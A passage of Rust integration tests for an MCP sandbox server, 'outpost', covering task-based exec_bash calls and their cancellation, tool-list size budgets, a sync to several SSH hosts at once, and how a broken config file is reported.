            .get_task(rmcp::model::GetTaskParams::new(id.to_string()))
            .await
            .unwrap();
        if let Some(m) = &info.task.task.status_message
            && seen.last() != Some(m)
        {
            seen.push(m.clone());
        }
        if info.task.status().is_terminal() {
            return (info.task, seen);
        }
        tokio::time::sleep(Duration::from_millis(200)).await;
    }
    panic!("task {id} did not end: {seen:?}");
}

async fn task_of(
    client: &common::mcp_client::Client<TasksClient>,
    tool: &'static str,
    args: Value,
) -> String {
    let response = client
        .call_tool_once(
            rmcp::model::CallToolRequestParams::new(tool)
                .with_arguments(args.as_object().unwrap().clone()),
        )
        .await
        .unwrap();
    match response {
        rmcp::model::CallToolResponse::Task(created) => created.task.task_id,
        other => panic!("{tool}: expected a task, got {other:?}"),
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn mcp_tasks_for_clients_that_declare_them() {
    use rmcp::model::{TaskPayload, TaskStatus};
    // A 2025-11-25 session that lists the extension's key reads plain
    // results: no task for it, however long the call.
    let (legacy, _home) = start_as(TasksClient, &[]).await;
    let (err, r) = call(
        &legacy,
        "exec_bash",
        json!({"command": "sleep 1.5; echo inline"}),
    )
    .await;
    assert!(!err, "{r}");
    assert_eq!(r["stdout"], "inline\n", "{r}");
    legacy.cancel().await.unwrap();

    let (client, _home) = common::mcp_client::start_modern(TasksClient, &[]).await;
    // A call that ends within the grace answers inline all the same.
    let (err, r) = call(&client, "exec_bash", json!({"command": "echo quick"})).await;
    assert!(!err, "{r}");
    assert_eq!(r["stdout"], "quick\n", "{r}");

    // exec_bash becomes a task: its status follows the output; its result is
    // exec_bash's own.
    let id = task_of(
        &client,
        "exec_bash",
        json!({"command": "echo t-1; sleep 5; echo t-2"}),
    )
    .await;
    let (task, seen) = poll_task(&client, &id).await;
    assert!(seen.iter().any(|m| m.ends_with(": t-1")), "{seen:?}");
    let TaskPayload::Completed { result } = task.payload else {
        panic!("{task:?}");
    };
    assert_eq!(
        result["structuredContent"]["stdout"], "t-1\nt-2\n",
        "{result:?}"
    );
    assert_eq!(result["structuredContent"]["exit_code"], 0);

    // Cancelling the task kills the command's whole tree.
    let needle = format!("sleep 300.{}7", std::process::id());
    let id = task_of(
        &client,
        "exec_bash",
        json!({"command": format!("{needle} & {needle}; wait")}),
    )
    .await;
    assert!(wait_until(Duration::from_secs(10), || pids_with_cmdline(
        &needle
    )
    .len()
        >= 2));
    client
        .peer()
        .cancel_task(rmcp::model::CancelTaskParams::new(id.clone()))
        .await
        .unwrap();
    let (task, _) = poll_task(&client, &id).await;
    assert_eq!(task.status(), TaskStatus::Cancelled);
    assert!(
        wait_until(Duration::from_secs(10), || pids_with_cmdline(&needle)
            .is_empty()),
        "left running: {:?}",
        pids_with_cmdline(&needle)
    );

    // Quick tools stay inline.
    let (err, r) = call(&client, "get_active_sandbox", json!({})).await;
    assert!(!err, "{r}");
    assert_eq!(r["active_sandbox"], "local");
    client.cancel().await.unwrap();
}

/// remote-sandbox-mcp's calls as its clients send them (integer ids, its
/// extra parameters, the advanced watch tools), a typo named with the
/// closest argument, and a tool list whose every tool carries annotations
/// within its size budget.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn mcp_drop_in_calls_and_the_tool_list() {
    let env = [("REMOTE_SANDBOX_EXPOSE_ADVANCED_TOOLS", "1".to_string())];
    let (client, _home) = start(&env).await;

    let (err, r) = call(
        &client,
        "exec_bash",
        json!({"command": "true", "timout_s": 5}),
    )
    .await;
    assert!(err);
    assert_eq!(
        r,
        "exec_bash has no argument `timout_s`; did you mean `timeout_s`?"
    );

    // exec_bash_background with every extra parameter remote-sandbox-mcp has.
    let (err, r) = call(
        &client,
        "exec_bash_background",
        json!({"command": "echo bg", "session_name": "dropin-1", "ensure_watchdog": true,
               "max_log_lines": 100, "notify_local": true, "codex_wakeup": false}),
    )
    .await;
    assert!(!err, "{r}");
    let (err, r) = call(
        &client,
        "exec_bash_background",
        json!({"command": "true", "codex_command": "codex exec hi"}),
    )
    .await;
    assert!(err && r.to_string().contains("config file"), "{r}");

    // Integer ids, 0 meaning none.
    let (err, r) = call(
        &client,
        "check_background_task",
        json!({"tmux_session": "dropin-1", "watch_id": 0, "last_n_lines": 5}),
    )
    .await;
    assert!(!err, "{r}");
    assert_eq!(r["tmux_session"], "dropin-1");
    let (err, r) = call(&client, "check_file_transfer_task", json!({"task_id": 3})).await;
    assert!(
        err && r.to_string().contains("no transfer task \\\"3\\\""),
        "{r}"
    );
    let (err, r) = call(
        &client,
        "cancel_file_transfer_task",
        json!({"task_id": 3, "force_kill_after_s": 5.0}),
    )
    .await;
    assert!(err && r.to_string().contains("no transfer task"), "{r}");

    // watch_background_task launches and watches, or watches what runs.
    let (err, r) = call(
        &client,
        "watch_background_task",
        json!({"tmux_session": "dropin-2", "log_file": "dropin-2.log",
               "launch_command": "echo watched; sleep 30", "interval_s": 60,
               "max_log_lines": 50, "ensure_watchdog": true}),
    )
    .await;
    assert!(!err, "{r}");
    assert_eq!(r["watch"]["watch_id"], "dropin-2");
    let (err, r) = call(
        &client,
        "watch_background_task",
        json!({"tmux_session": "", "log_file": "dropin-2.log"}),
    )
    .await;
    assert!(!err, "{r}");
    assert_eq!(r["watch"]["watch_id"], "dropin-2");
    let (err, r) = call(
        &client,
        "watch_background_task",
        json!({"tmux_session": "dropin-2", "log_file": "", "resume_command": "x"}),
    )
    .await;
    assert!(err && r.to_string().contains("launch_command"), "{r}");
    let (err, r) = call(
        &client,
        "cancel_background_watch",
        json!({"watch_id": "dropin-2"}),
    )
    .await;
    assert!(!err, "{r}");
    let (err, r) = call(
        &client,
        "exec_bash_background_watch",
        json!({"command": "true", "session_name": "dropin-3"}),
    )
    .await;
    assert!(!err, "{r}");
    assert_eq!(
        (&r["tmux_session"], &r["watch_id"]),
        (&json!("dropin-3"), &json!("dropin-3"))
    );
    for tool in ["install_macos_watchdog", "uninstall_macos_watchdog"] {
        let (err, r) = call(&client, tool, json!({})).await;
        assert!(!err, "{r}");
        assert_eq!(r["status"], "not_needed");
    }

    // What only reads says so (clients auto-approve it); nothing states a
    // default (destructive, open world), which would cost every session.
    let tools = client.list_all_tools().await.unwrap();
    for t in &tools {
        let hints = t.annotations.clone().unwrap_or_default();
        let reads = t.name.starts_with("list_")
            || t.name.starts_with("check_")
            || t.name.starts_with("read_")
            || t.name.starts_with("get_");
        if reads {
            assert_eq!(hints.read_only_hint, Some(true), "{}", t.name);
        }
        assert_ne!(hints.destructive_hint, Some(true), "{}", t.name);
        assert_ne!(hints.open_world_hint, Some(true), "{}", t.name);
    }
    client.cancel().await.unwrap();

    // The default list, as an agent pays for it in every session.
    let (client, _home) = start(&[]).await;
    let tools = client.list_all_tools().await.unwrap();
    let size = serde_json::to_string(&tools).unwrap().len();
    eprintln!(
        "default tool list: {} tools, {size} characters",
        tools.len()
    );
    // 14,000 since the isolated sandbox tools (create, get_sandbox_status,
    // renew, delete: about 2,500 characters) joined the list; 16,000 since
    // execute_code, install_package and create_run_close (about 1,700);
    // 12,000 since rarely needed tools, Slurm's parameters (without a
    // cluster) and the default hints left the default list; 14,000 since
    // checkpoint, restore, diff, fork and expose_port (about 2,000) joined
    // it; 14,100 since the syncs' schemas name draft-07 (about 100), which
    // saves a validating client about 3.5 ms a sync. Raising it needs a
    // line in the README saying why.
    assert!(
        size <= 14_100,
        "the default tool list grew to {size} characters"
    );
    // A client that validates results (the Python SDK builds a validator
    // per call) pays per schema node: each tool's stay small.
    fn nodes(v: &serde_json::Value) -> usize {
        match v {
            serde_json::Value::Object(m) => 1 + m.values().map(nodes).sum::<usize>(),
            serde_json::Value::Array(a) => 1 + a.iter().map(nodes).sum::<usize>(),
            _ => 0,
        }
    }
    for t in &tools {
        let output = t
            .output_schema
            .as_ref()
            .map_or(0, |s| nodes(&serde_json::Value::Object((**s).clone())));
        let input = nodes(&serde_json::Value::Object((*t.input_schema).clone()));
        assert!(
            output <= 32,
            "{}'s result schema has {output} nodes",
            t.name
        );
        assert!(
            input <= 32,
            "{}'s parameter schema has {input} nodes",
            t.name
        );
    }
    client.cancel().await.unwrap();
}

/// One push to several hosts: each host's own plan against what it holds,
/// its own report, and a host that cannot be reached is its own error while
/// the others complete. Each sshd gives its sessions a HOME of their own, so
/// one relative remote path is a different tree on each host.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn mcp_push_to_several_hosts_reports_each_host() {
    let homes: Vec<outpost_e2e::TempDir> = (0..3)
        .map(|i| outpost_e2e::test_user_dir(&format!("fanout-home-{i}")))
        .collect();
    let mut hosts: Vec<Sshd> = homes
        .iter()
        .map(|h| Sshd::start_with_home(h.path()))
        .collect();
    let dir = common::scratch("fanout-config");
    let config = dir.path().join("config.toml");
    let text: String = (0..3)
        .map(|i| hosts[i].sandbox_toml(&format!("h{i}")))
        .collect();
    std::fs::write(&config, text).unwrap();
    let (client, _home) = start(&[("OUTPOST_CONFIG", config.display().to_string())]).await;

    // 40 small files (batches) and one past the inline size (parts).
    let src = outpost_e2e::TempDir::new("fanout-src");
    for i in 0..40 {
        std::fs::write(src.path().join(format!("f{i}.txt")), format!("file {i}\n")).unwrap();
    }
    std::fs::write(src.path().join("big.bin"), outpost_e2e::noise(3 << 20, 11)).unwrap();
    // h1 already holds the tree: its plan is empty.
    let (err, r) = call(
        &client,
        "sync_local_to_remote",
        json!({"local_path": src.path(), "remote_path": "fan", "sandbox_name": "h1"}),
    )
    .await;
    assert!(!err && r["uploaded_files"] == 41, "{r}");
    // h2 is gone.
    hosts.pop();

    let (err, r) = call(
        &client,
        "sync_local_to_remote",
        json!({"local_path": src.path(), "remote_path": "fan", "sandboxes": ["h0", "h1", "h2"]}),
    )
    .await;
    assert!(!err, "{r}");
    assert_eq!(r["mode"], "inline", "{r}");
    let by_name = |name: &str| {
        r["hosts"]
            .as_array()
            .unwrap()
            .iter()
            .find(|h| h["sandbox"] == name)
            .unwrap_or_else(|| panic!("no {name} in {r}"))
            .clone()
    };
    let (h0, h1, h2) = (by_name("h0"), by_name("h1"), by_name("h2"));
    assert_eq!(
        (&h0["uploaded_files"], &h0["skipped_files"]),
        (&json!(41), &json!(0)),
        "{h0}"
    );
    assert_eq!(
        (&h1["uploaded_files"], &h1["skipped_files"]),
        (&json!(0), &json!(41)),
        "{h1}"
    );
    assert!(h2["error"].as_str().is_some_and(|e| !e.is_empty()), "{h2}");
    assert!(h2.get("uploaded_files").is_none(), "{h2}");
    for (i, host_home) in homes.iter().take(2).enumerate() {
        let there = host_home.path().join("fan");
        assert_eq!(
            common::snapshot(&there),
            common::snapshot(src.path()),
            "h{i}"
        );
        assert!(common::leftovers(&there).is_empty(), "h{i}");
    }
    assert!(!homes[2].path().join("fan").exists());

    // One host named in `sandboxes` answers as one of several would.
    let (err, r) = call(
        &client,
        "sync_local_to_remote",
        json!({"local_path": src.path(), "remote_path": "fan", "sandboxes": ["h0"]}),
    )
    .await;
    assert!(!err, "{r}");
    assert_eq!(r["hosts"][0]["sandbox"], "h0", "{r}");
    assert_eq!(r["hosts"][0]["skipped_files"], 41, "{r}");
    // Every host failed: an error that names each.
    let (err, r) = call(
        &client,
        "sync_local_to_remote",
        json!({"local_path": src.path(), "remote_path": "fan", "sandboxes": ["h2"]}),
    )
    .await;
    assert!(
        err && r.to_string().contains("every host failed: h2: "),
        "{r}"
    );

    // Refused before anything moves.
    for (args, says) in [
        (json!({"sandboxes": []}), "empty"),
        (json!({"sandboxes": ["h0", ""]}), "empty name"),
        (json!({"sandboxes": ["h0", "nope"]}), "nope"),
        (json!({"sandboxes": ["h0", "h0"]}), "twice"),
        (
            json!({"sandboxes": ["h0"], "sandbox_name": "h1"}),
            "not both",
        ),
    ] {
        let mut args = args;
        args["local_path"] = json!(src.path());
        let (err, r) = call(&client, "sync_local_to_remote", args).await;
        assert!(err && r.to_string().contains(says), "{says}: {r}");
    }
    client.cancel().await.unwrap();
}

/// A configuration that does not load never keeps `outpost mcp` from
/// starting (a client would show only "failed to connect"): it lists its
/// tools and answers every call with the problem and where to fix it,
/// running nothing; the CLI stops with the same words.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_broken_config_is_told_through_every_tool() {
    let dir = common::scratch("broken-config");
    let config = dir.path().join("config.toml");
    std::fs::write(&config, "[[sandbox]]\nname = \"gpu1\"\nhost = = \"h\"\n").unwrap();
    let env = [("OUTPOST_CONFIG", config.display().to_string())];
    let (client, home) = start(&env).await;
    let tools = client.list_all_tools().await.unwrap();
    assert!(tools.iter().any(|t| t.name == "exec_bash"));
    let marker = dir.path().join("ran");
    let (err, r) = call(
        &client,
        "exec_bash",
        json!({"command": format!("touch {}", marker.display())}),
    )
    .await;
    let text = r.as_str().unwrap_or_default();
    assert!(
        err && text.starts_with("outpost cannot serve: invalid config file"),
        "{r}"
    );
    assert!(
        text.contains(&config.display().to_string()) && text.contains("line 3"),
        "{r}"
    );
    assert!(!marker.exists(), "a call ran with no configuration");
    client.cancel().await.unwrap();
    let out = std::process::Command::new(outpost_e2e::target_bin("outpost"))
        .args(["hosts"])
        .env("HOME", home.path())
        .env("OUTPOST_CONFIG", &config)
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(stderr.contains("line 3"), "{stderr}");
}
